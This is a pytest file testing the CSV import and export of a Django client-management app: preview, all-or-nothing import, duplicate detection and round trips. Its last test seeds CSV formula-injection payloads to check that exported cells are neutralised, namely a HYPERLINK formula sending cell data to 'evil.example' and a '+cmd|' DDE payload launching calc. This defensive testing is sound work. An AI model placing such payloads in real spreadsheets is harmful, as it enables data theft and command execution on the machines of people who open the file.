"""CSV import (preview, then all valid rows or nothing) and export (which imports back the same)."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from clients.models import Client
from clients.selectors import client_list
from tests.factories import ClientFactory, TagFactory

pytestmark = pytest.mark.django_db

GOOD_AND_BAD = """name;company;email;phone;company_number;language;tags
Alice Martin;Café Dupont;alice@dupont.fr;06 12 34 56 78;732 829 320;fr;bakery, recurring
;No Name Ltd;nobody@noname.com;;;en;
Bob Smith;Smith Ltd;bob@@smith;;;en;
Chloé Durand;Durand SAS;chloe@durand.fr;;;anglais;
Existing Person;;existing@old.fr;;;;
Dan Moreau;;dan@moreau.fr;;;;
Dan Again;;DAN@moreau.fr;;;;
"""


def upload(owner_client, text, name="clients.csv"):
    file = SimpleUploadedFile(name, text.encode("utf-8"), content_type="text/csv")
    return owner_client.post(reverse("clients:client_import"), {"file": file})


def rows_by_name(response):
    return {row.values["name"] or f"row {row.number}": row for row in response.context["rows"]}


def test_the_preview_shows_each_rows_problem_and_writes_nothing(owner_client, owner):
    ClientFactory(owner=owner, name="Old", email="existing@old.fr")
    response = upload(owner_client, GOOD_AND_BAD)
    assert response.status_code == 200
    rows = rows_by_name(response)
    assert rows["Alice Martin"].importable
    assert rows["Dan Moreau"].importable
    assert rows["row 3"].errors == ["The name is missing."]
    assert rows["Bob Smith"].errors == ["“bob@@smith” is not a valid email address."]
    assert rows["Chloé Durand"].importable  # "anglais" is English
    assert rows["Existing Person"].duplicate_of == "Old"
    assert rows["Dan Again"].duplicate_of == "row 7 of this file"
    assert response.context["importable_count"] == 3
    assert list(client_list(owner=owner).values_list("name", flat=True)) == ["Old"]
    assert b"Duplicate of Old" in response.content


def test_confirming_imports_the_valid_rows_only(owner_client, owner):
    upload(owner_client, GOOD_AND_BAD)
    response = owner_client.post(reverse("clients:client_import_confirm"))
    assert response.status_code == 302
    clients = {c.name: c for c in client_list(owner=owner).prefetch_related("tags")}
    assert set(clients) == {"Alice Martin", "Chloé Durand", "Existing Person", "Dan Moreau"}
    alice = clients["Alice Martin"]
    assert (alice.company_number, alice.language) == ("732829320", "fr")
    assert sorted(t.name for t in alice.tags.all()) == ["bakery", "recurring"]
    assert clients["Chloé Durand"].language == "en"
    # The pending file is gone: confirming again imports nothing more.
    owner_client.post(reverse("clients:client_import_confirm"))
    assert client_list(owner=owner).count() == 4


def test_cancelling_imports_nothing(owner_client, owner):
    upload(owner_client, GOOD_AND_BAD)
    owner_client.post(reverse("clients:client_import_cancel"))
    owner_client.post(reverse("clients:client_import_confirm"))
    assert not client_list(owner=owner).exists()


def test_a_client_added_after_the_preview_is_not_imported_twice(owner_client, owner):
    upload(owner_client, GOOD_AND_BAD)
    ClientFactory(owner=owner, name="Dan Moreau", email="dan@moreau.fr")
    owner_client.post(reverse("clients:client_import_confirm"))
    assert client_list(owner=owner).filter(email__iexact="dan@moreau.fr").count() == 1


NO_BOB_TRIGGER = {
    "sqlite": (
        [
            "CREATE TRIGGER no_bob BEFORE INSERT ON clients_client WHEN NEW.name = 'Bob' "
            "BEGIN SELECT RAISE(ABORT, 'no Bob'); END"
        ],
        ["DROP TRIGGER no_bob"],
    ),
    "postgresql": (
        [
            "CREATE FUNCTION no_bob() RETURNS trigger AS $$ BEGIN IF NEW.name = 'Bob' THEN "
            "RAISE EXCEPTION 'no Bob'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql",
            "CREATE TRIGGER no_bob BEFORE INSERT ON clients_client FOR EACH ROW EXECUTE FUNCTION no_bob()",
        ],
        ["DROP TRIGGER no_bob ON clients_client", "DROP FUNCTION no_bob()"],
    ),
}


def test_a_failure_half_way_imports_nothing(owner_client, owner):
    """All or nothing: a database error on the last row rolls back the first ones."""
    upload(owner_client, "name,email\nAlice,alice@a.fr\nBob,bob@b.fr\n")
    create, drop = NO_BOB_TRIGGER[connection.vendor]
    with connection.cursor() as cursor:  # a trigger stands for any failure while writing "Bob"
        for statement in create:
            cursor.execute(statement)
    try:
        with pytest.raises(Exception, match="no Bob"):
            owner_client.post(reverse("clients:client_import_confirm"))
    finally:
        with connection.cursor() as cursor:
            for statement in drop:
                cursor.execute(statement)
    assert not client_list(owner=owner).exists()


def test_an_unreadable_file_is_refused_with_a_message(owner_client, owner):
    response = upload(owner_client, "company,email\nAcme,a@acme.fr\n")
    assert response.status_code == 200
    assert "no “name” column" in response.context["form"].errors["file"][0]
    response = upload(owner_client, "name\nAlice\n", name="clients.xlsx")
    assert response.context["form"].errors["file"] == ["Choose a .csv file."]


def test_a_too_big_file_is_refused(owner_client, owner):
    response = upload(owner_client, "name\n" + "x" * (600 * 1024))
    assert "too big" in response.context["form"].errors["file"][0]
    assert "clients_import" not in owner_client.session


def test_export_then_import_into_another_account_gives_the_same_clients(owner_client, owner, client, other_user):
    tag = TagFactory(owner=owner, name="agency")
    alice = ClientFactory(
        owner=owner,
        name="Alice Martin",
        company="Café Dupont, SARL",
        email="alice@dupont.fr",
        phone="06 12 34 56 78",
        website="https://dupont.fr",
        company_number="73282932000074",
        language="en",
        address_form="tu",
        notes='Says "urgent"; always.\nSecond line',
    )
    alice.tags.add(tag)
    ClientFactory(owner=owner, name="Bob", company="", email="", notes="")
    export = owner_client.get(reverse("clients:client_export"))
    assert export.status_code == 200
    data = b"".join(export.streaming_content)
    assert data.startswith("\ufeff".encode())

    client.force_login(other_user)
    upload(client, data.decode("utf-8-sig"))
    client.post(reverse("clients:client_import_confirm"))

    fields = ["name", "company", "email", "phone", "website", "company_number", "language", "address_form", "notes"]

    def snapshot(user):
        return sorted(
            (tuple(getattr(c, f) for f in fields), tuple(t.name for t in c.tags.all()))
            for c in Client.objects.filter(owner=user).prefetch_related("tags")
        )

    assert snapshot(other_user) == snapshot(owner)
    assert len(snapshot(other_user)) == 2


def test_export_follows_the_filters(owner_client, owner):
    ClientFactory(owner=owner, name="Alice", is_blacklisted=True)
    ClientFactory(owner=owner, name="Bob")
    data = b"".join(owner_client.get(reverse("clients:client_export") + "?blacklisted=yes").streaming_content)
    lines = data.decode("utf-8-sig").splitlines()
    assert len(lines) == 2 and lines[1].startswith("Alice,")


def test_cells_guarded_against_formulas_import_back_as_the_original_text(owner_client, owner, client, other_user):
    """The export puts an apostrophe before a formula-like cell (issue #17); the import takes it off, only it."""
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "company": "+cmd|' /C calc'!A0",
        "phone": "@SUM(1)",
        "notes": "-2+3\n=1+1",
    }
    ClientFactory(owner=owner, email="", **hostile)
    ClientFactory(owner=owner, name="'=already quoted", company="'an apostrophe", phone="+33 6 12 34 56 78", email="")
    data = b"".join(owner_client.get(reverse("clients:client_export")).streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in data and "'+cmd|" in data and "'@SUM(1)" in data and "'+33 6" in data

    client.force_login(other_user)
    upload(client, data)
    client.post(reverse("clients:client_import_confirm"))

    def snapshot(user):
        return sorted(Client.objects.filter(owner=user).values_list("name", "company", "phone", "notes"))

    assert snapshot(other_user) == snapshot(owner)
    assert (hostile["name"], hostile["company"], hostile["phone"], hostile["notes"]) in snapshot(other_user)
